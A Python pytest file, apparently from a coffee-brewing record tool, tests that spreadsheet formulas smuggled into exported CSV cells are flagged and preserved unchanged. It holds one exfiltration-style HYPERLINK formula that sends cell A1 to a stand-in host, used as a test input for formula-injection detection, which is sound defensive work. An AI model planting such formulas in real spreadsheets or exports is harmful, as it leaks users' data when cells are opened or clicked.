"""Cells that a spreadsheet would run are told, and come back byte for byte all the same."""

import dataclasses
import datetime as dt
from pathlib import Path

import pytest

from evenhand.records.exporting import find_formulas, write_folder
from evenhand.records.folder import read

DEMO = Path(__file__).parents[2] / "demo" / "season"
TODAY = dt.date(2026, 11, 1)
FORMULA = '=HYPERLINK("http://there.invalid/?"&A1;"open")'


@pytest.fixture(scope="module")
def demo():
    return read(DEMO, today=TODAY)


def set_first(folder, *settings):
    """Give the first pulls these grind settings."""
    pulls = [
        dataclasses.replace(pull, grind_setting=setting) for pull, setting in zip(folder.pulls, settings, strict=False)
    ]
    return dataclasses.replace(folder, pulls=(*pulls, *folder.pulls[len(pulls) :]))


def test_nothing_is_told_of_plain_names_and_numbers(demo):
    assert find_formulas(demo) == ()
    assert find_formulas(set_first(demo, "+2", "-1.5", "-1,5", "4 = fine")) == ()


@pytest.mark.parametrize("text", [FORMULA, "+A1", "-A1+B1", "@SUM(A1)"])
def test_a_formula_is_told_with_its_place_and_comes_back_as_it_was(demo, tmp_path, told_besides, text):
    folder = set_first(demo, text, text + "2")
    (told,) = find_formulas(folder)
    assert told.startswith("pulls.csv, grind_setting: 2 cells begin with =")
    told_besides(told, ["pulls", "csv", "grind_setting"], [text])
    assert text[:3] in told
    assert read(write_folder(folder, tmp_path / "out"), today=TODAY).pulls == folder.pulls
